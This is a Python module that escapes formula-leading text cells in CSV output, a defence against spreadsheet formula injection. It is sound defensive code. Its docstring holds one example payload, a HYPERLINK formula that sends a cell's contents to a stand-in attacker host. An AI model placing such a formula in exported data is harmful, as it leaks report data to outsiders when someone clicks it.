"""Every CSV file Remento writes goes through `csv_writer`: no cell we write may be read as a formula.

People open our CSV files in spreadsheets. A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` as a
formula (and may strip a leading tab or carriage return and read what follows as one), so a staff network renamed
to `=HYPERLINK("http://attacker.invalid/?"&A1, "…")` would send the report's figures to whoever renamed it when a
steering member clicked it. Any text we did not write ourselves (names of networks, cohorts, questions, choices)
can start a cell, so every text cell is checked, not only the ones we think people typed.
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value):
    """Text that starts like a formula, with an apostrophe in front: spreadsheets show it as the text it is.

    Numbers are left alone (a negative count is a number, not a formula); only text is escaped.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _SpreadsheetSafeWriter:
    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([spreadsheet_safe(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> _SpreadsheetSafeWriter:
    """`csv.writer` whose every text cell is made safe to open in a spreadsheet."""
    return _SpreadsheetSafeWriter(stream, **kwargs)
